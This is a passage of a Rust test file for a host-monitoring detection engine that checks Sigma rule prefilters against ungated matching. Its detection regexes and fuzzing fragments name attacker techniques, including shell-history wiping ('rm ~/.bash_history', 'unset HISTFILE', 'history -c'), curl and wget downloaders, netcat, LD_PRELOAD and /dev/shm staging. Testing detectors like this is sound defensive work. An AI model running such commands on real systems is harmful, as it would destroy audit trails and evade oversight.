        (vec![tag("T1059"), tag("T1053.003")], vec![0, 1]),
        (vec![tag("T1053.003"), tag("T1059")], vec![0, 1]),
        (vec![tag("T1059")], vec![0]),
        (vec![tag("T1000"), tag("T1053.003")], vec![0, 1]),
        (vec![tag("T1000")], vec![]),
        (vec![], vec![]),
    ];
    let mut memo = RunMemo::default();
    for (attack, want) in cases {
        let mut ev = event("processes", json!({}), T0);
        ev.attack = attack.into();
        let view = EventView::new(&ev, &d);
        assert_eq!(rules.matching(&view), want, "{:?}", ev.attack);
        assert_eq!(
            rules.matching_view(&view, &mut memo),
            want,
            "{:?}",
            ev.attack
        );
        assert_eq!(rules.matching_ungated(&view), want, "{:?}", ev.attack);
    }
}

/// A rule on `tables` is filed under its tables, the cheapest and most selective of its
/// conditions: a row with the rule's columns but from another table is not even a
/// candidate, and a row of the table under any query name is.
#[test]
fn table_rules_are_filed_under_their_tables() {
    let rules = set(&[rule_yaml(
        "deleted",
        1,
        "  a:\n    tables: processes\n    columns.on_disk: 0\n  condition: a",
        "",
    )]);
    let d = Derived::default();
    let candidates = |tables: &[&str], query: &str| {
        let mut ev = event(query, json!({"pid": "1", "on_disk": "0"}), T0);
        ev.tables = tables
            .iter()
            .map(|t| t.to_string())
            .collect::<Vec<_>>()
            .into();
        let view = EventView::new(&ev, &d);
        let lookups = gate::EventLookups::new(&view, &rules.gate_fields, None);
        let got = rules.gate_index.candidates(&lookups);
        assert_eq!(rules.matching(&view), rules.matching_ungated(&view));
        (got, rules.matching(&view))
    };
    assert_eq!(candidates(&[], "processes"), (vec![], vec![]));
    assert_eq!(candidates(&["docker_containers"], "x"), (vec![], vec![]));
    assert_eq!(
        candidates(&["processes"], "hourly_check_42"),
        (vec![0], vec![0])
    );
    assert_eq!(
        candidates(&["process_open_sockets", "PROCESSES"], "x"),
        (vec![0], vec![0])
    );
}

/// Number and boolean literals are checked by the gates as rsigma's matchers read values:
/// text that parses as the number, `TRUE`/`1`/`yes` for true, lists of numbers, integers.
#[test]
fn gates_read_numbers_and_booleans_like_the_engine() {
    let rules = set(&[
        rule_yaml("port", 1, "  a:\n    columns.port: 22\n  condition: a", ""),
        rule_yaml(
            "ports",
            2,
            "  a:\n    columns.port: [22, 2222]\n  condition: a",
            "",
        ),
        rule_yaml(
            "on",
            3,
            "  a:\n    columns.enabled: true\n  condition: a",
            "",
        ),
        rule_yaml(
            "off",
            4,
            "  a:\n    columns.enabled: false\n  condition: a",
            "",
        ),
        rule_yaml(
            "counter",
            5,
            "  a:\n    counter: [0, 5]\n  condition: a",
            "",
        ),
        rule_yaml(
            "initial",
            6,
            "  a:\n    derived.initial: true\n  condition: a",
            "",
        ),
    ]);
    let values = [
        json!(22),
        json!("22"),
        json!("22.0"),
        json!("022"),
        json!(" 22"),
        json!("0x16"),
        json!(2222),
        json!(22.5),
        json!("22e0"),
        json!(true),
        json!(false),
        json!("TRUE"),
        json!("Yes"),
        json!("1"),
        json!("0"),
        json!("no"),
        json!("maybe"),
        json!("\u{ff34}\u{ff32}\u{ff35}\u{ff25}"),
        json!("\u{212a}"),
        json!(1),
        json!(0),
        json!(""),
        json!(null),
        json!({"a": 1}),
    ];
    let mut memo = RunMemo::default();
    let mut fired = std::collections::BTreeSet::new();
    for v in values {
        for counter in [Some(0), Some(5), Some(7), None] {
            let mut ev = event("t", json!({"port": v.clone(), "enabled": v.clone()}), T0);
            ev.counter = counter;
            for d in [
                Derived::default(),
                Derived {
                    initial: true,
                    ..Default::default()
                },
            ] {
                let view = EventView::new(&ev, &d);
                let want = rules.matching_ungated(&view);
                let what = format!("{v} {counter:?} {}", d.initial);
                assert_eq!(rules.matching(&view), want, "{what}");
                assert_eq!(rules.matching_view(&view, &mut memo), want, "{what}");
                let flat = eval_view(&ev, &d);
                assert_eq!(rules.matching(&JsonEvent::borrow(&flat)), want, "{what}");
                fired.extend(want);
            }
        }
    }
    // Every rule fired on some value and was rejected on others.
    assert_eq!(fired.len(), 6, "{fired:?}");
}

/// The gates' memory of the previous event must follow every change of value: a run of one
/// query, then another query, a different spelling, a column that changes under the same
/// query, and back.
#[test]
fn gate_memory_follows_changing_values() {
    let rules = set(&[
        rule_yaml(
            "cron_added",
            1,
            "  a:\n    query: crontab\n    action: added\n  condition: a",
            "",
        ),
        rule_yaml(
            "ssh_port",
            2,
            "  a:\n    query: listening_ports\n    columns.port: 22\n  condition: a",
            "",
        ),
    ]);
    let d = Derived::default();
    let cases = [
        ("crontab", Action::Added, json!({}), vec![0]),
        ("crontab", Action::Added, json!({}), vec![0]),
        ("crontab", Action::Removed, json!({}), vec![]),
        ("crontab", Action::Added, json!({}), vec![0]),
        ("users", Action::Added, json!({}), vec![]),
        ("CronTab", Action::Added, json!({}), vec![0]),
        (
            "listening_ports",
            Action::Added,
            json!({"port": "2222"}),
            vec![],
        ),
        (
            "listening_ports",
            Action::Added,
            json!({"port": "22"}),
            vec![1],
        ),
        (
            "listening_ports",
            Action::Added,
            json!({"port": 22}),
            vec![1],
        ),
        (
            "listening_ports",
            Action::Added,
            json!({"port": "80"}),
            vec![],
        ),
        ("listening_ports", Action::Added, json!({}), vec![]),
        (
            "listening_ports",
            Action::Added,
            json!({"port": "22"}),
            vec![1],
        ),
        ("crontab", Action::Added, json!({"port": "22"}), vec![0]),
    ];
    let mut memo = RunMemo::default();
    for (query, action, columns, want) in cases {
        let mut ev = event(query, columns.clone(), T0);
        ev.action = Some(action);
        let view = EventView::new(&ev, &d);
        let got = rules.matching_view(&view, &mut memo);
        assert_eq!(got, want, "{query} {action:?} {columns}");
        assert_eq!(
            rules.matching_ungated(&view),
            want,
            "{query} {action:?} {columns}"
        );
    }
}

#[test]
fn gates_are_sound_for_tricky_conditions() {
    let rules = set(&[
        // OR of two conjunctions: neither side's clauses alone are necessary.
        rule_yaml(
            "or_branches",
            1,
            "  a:\n    query: crontab\n    columns.command|contains: curl\n  b:\n    columns.key: LD_PRELOAD\n  condition: a or b",
            "",
        ),
        // Negation and `exists: false` constrain nothing positive.
        rule_yaml(
            "negated",
            2,
            "  a:\n    query: users\n  b:\n    columns.shell|exists: false\n  condition: not a and b",
            "",
        ),
        // A null matcher matches an absent field.
        rule_yaml(
            "null_value",
            3,
            "  a:\n    query: processes\n    columns.parent: null\n  condition: a",
            "",
        ),
        // Selectors: `1 of` is an OR, `all of` an AND.
        rule_yaml(
            "selectors",
            4,
            "  sel_a:\n    query: Keyboard_Event_Taps\n  sel_b:\n    pack: osx-attacks\n  flt:\n    columns.x: 1\n  condition: 1 of sel_* and not flt",
            "",
        ),
        // Cased literals and numbers compared as text.
        rule_yaml(
            "cased_and_numeric",
            5,
            "  a:\n    query|cased: Mixed_Case\n    columns.port: 22\n  condition: a",
            "",
        ),
        // Keywords are not scoped to a field: no gate.
        rule_yaml("keywords", 6, "  kw:\n    - evil\n  condition: kw", ""),
        // Prefix, suffix and substring literals, folded or cased.
        rule_yaml(
            "text",
            7,
            "  a:\n    columns.path|startswith: /TMP/\n  b:\n    columns.cmd|contains|cased: Bad\n  c:\n    columns.port|endswith: '22'\n  condition: a or b or c",
            "",
        ),
    ]);
    let d = Derived::default();
    let cases = [
        (
            "crontab",
            json!({"command": "curl x", "shell": "a"}),
            vec![0],
        ),
        ("crontab", json!({"command": "ls", "shell": "a"}), vec![]),
        (
            "process_envs",
            json!({"key": "LD_PRELOAD", "shell": "a"}),
            vec![0],
        ),
        (
            "process_envs",
            json!({"key": "ld_preload", "shell": "a"}),
            vec![0],
        ),
        ("process_envs", json!({"key": "PATH", "shell": "a"}), vec![]),
        ("groups", json!({"name": "x"}), vec![1]),
        ("users", json!({"name": "x"}), vec![]),
        ("processes", json!({"pid": "1"}), vec![1, 2]),
        (
            "processes",
            json!({"pid": "1", "parent": "0", "shell": "sh"}),
            vec![],
        ),
        (
            "keyboard_event_taps",
            json!({"x": "2", "shell": "a"}),
            vec![3],
        ),
        (
            "KEYBOARD_EVENT_TAPS",
            json!({"x": "1", "shell": "a"}),
            vec![],
        ),
        ("Mixed_Case", json!({"port": 22, "shell": "a"}), vec![4, 6]),
        ("mixed_case", json!({"port": "22", "shell": "a"}), vec![6]),
        (
            "anything",
            json!({"note": "an evil thing", "shell": "a"}),
            vec![5],
        ),
        ("file", json!({"path": "/tmp/x", "shell": "a"}), vec![6]),
        ("file", json!({"path": "/Tmp/x", "shell": "a"}), vec![6]),
        ("file", json!({"path": "/var/tmp/x", "shell": "a"}), vec![]),
        ("ps", json!({"cmd": "a Bad one", "shell": "a"}), vec![6]),
        ("ps", json!({"cmd": "a BAD one", "shell": "a"}), vec![]),
        ("ports", json!({"port": 2222, "shell": "a"}), vec![6]),
        ("ports", json!({"port": "2223", "shell": "a"}), vec![]),
    ];
    for (query, columns, want) in cases {
        let ev = event(query, columns.clone(), T0);
        let view = EventView::new(&ev, &d);
        assert_eq!(rules.matching(&view), want, "{query} {columns}");
        let fresh = rules.matching_view(&view, &mut RunMemo::default());
        assert_eq!(fresh, want, "{query} {columns}");
        assert_eq!(rules.matching_ungated(&view), want, "{query} {columns}");
    }
    assert_eq!(rules.open_gates(), ["negated", "keywords"]);
    // Numbers reach text atoms as JSON numbers through a JSON view; the gate stays sound.
    let flat = json!({"query": "ports", "columns.port": 1022, "columns.shell": "a"});
    assert_eq!(rules.matching(&JsonEvent::borrow(&flat)), vec![6]);
}

/// Pieces of command lines around what the built-in regex rules look for (history files,
/// redirections, pipes into shells, `/tmp`, downloaders), in either case.
fn command_piece() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;
    prop_oneof![
        prop::sample::select(vec![
            "rm ",
            "shred ",
            "unlink",
            "truncate ",
            "-s0 ",
            "~/.bash_history",
            ".zsh_history",
            "_HISTORY",
            ".histfile",
            ".HISTFILE",
            ">",
            "> ",
            "2>",
            "0>",
            ">>",
            "|",
            "||",
            "| ",
            "sudo ",
            "bash",
            "sh",
            "zsh",
            "ksh",
            "-c ",
            "/bin/",
            "/tmp/",
            "/var/tmp",
            "/dev/shm",
            "/DEV/SHM/",
            "cd ",
            "chmod +x ",
            "python3 ",
            "curl",
            "wget ",
            "nc",
            "ncat ",
            "dig",
            "http://",
            "HTTPS://",
            "ln -s ",
            "/dev/null",
            "history -c",
            "unset HISTFILE",
            "HISTSIZE=0",
            "set +o history",
            " ",
            ";",
            "&",
            "`",
            "(",
            "\t",
            "\n",
            "é",
            "K",
        ])
        .prop_map(str::to_string),
        "[a-zA-Z0-9/._ -]{1,6}".prop_map(|s: String| s),
    ]
}

proptest::proptest! {
    /// The gates of the built-in rules whose items are regexes (and `contains|all` lists)
    /// let through every command line rsigma matches: gated and ungated evaluation agree on
    /// rows built from the fragments those rules look for.
    #[test]
    fn regex_gates_agree_with_the_engine(
        pieces in proptest::collection::vec(command_piece(), 0..8),
        query in proptest::sample::select(vec!["crontab", "shell_history", "processes"]),
        action in proptest::sample::select(vec![Action::Added, Action::Snapshot]),
    ) {
        static RULES: std::sync::OnceLock<RuleSet> = std::sync::OnceLock::new();
        let rules = RULES.get_or_init(|| RuleSet::builtin().unwrap_or_else(|e| panic!("{e}")));
        let command = pieces.concat();
        let mut ev = event(query, json!({"command": command, "cmdline": command, "path": "/usr/bin/x"}), T0);
        ev.action = Some(action);
        let d = crate::derive::derive(&ev, &Config::default());
        let view = EventView::new(&ev, &d);
        proptest::prop_assert_eq!(rules.matching(&view), rules.matching_ungated(&view), "{:?}", command);
    }
}

/// Regex items (cased, `|i`, anchored, without required literals) and `contains|all`
/// lists gate soundly: gated evaluation is rsigma's on rows that do and do not match.
#[test]
fn regex_and_all_of_gates_are_sound() {
    let rules = set(&[
        rule_yaml(
            "re_cased",
            1,
            "  a:\n    columns.command|re: '(^|;)\\s*(rm|shred)\\s+\\S*_history'\n  condition: a",
            "",
        ),
        rule_yaml(
            "re_insensitive",
            2,
            "  a:\n    columns.command|re|i: 'curl\\s+http'\n  condition: a",
            "",
        ),
        rule_yaml(
            "re_no_literal",
            3,
            "  a:\n    columns.command|re: '^[a-z]+$'\n  condition: a",
            "",
        ),
        rule_yaml(
            "all_of",
            4,
            "  a:\n    columns.command|contains|all:\n      - 'ln '\n      - /dev/null\n  condition: a",
            "",
        ),
    ]);
    let d = Derived::default();
    let cases = [
        ("rm ~/.bash_history", vec![0]),
        ("x; shred .zsh_history", vec![0]),
        ("x; shred -u .zsh_history", vec![]),
        ("rm ~/.bash_HISTORY", vec![]),
        ("CURL  HTTP://x", vec![1]),
        ("curl http://x", vec![1]),
        ("wget http://x", vec![]),
        ("abc", vec![2]),
        ("ab c", vec![]),
        ("LN -s /DEV/NULL x", vec![3]),
        ("ln -s /tmp x", vec![]),
    ];
    for (command, want) in cases {
        let ev = event("x", json!({ "command": command }), T0);
        let view = EventView::new(&ev, &d);
        assert_eq!(rules.matching(&view), want, "{command}");
        assert_eq!(rules.matching_ungated(&view), want, "{command}");
    }
    // Only the regex without a required literal is left with a presence check.
    assert_eq!(rules.open_gates(), Vec::<&str>::new());
}
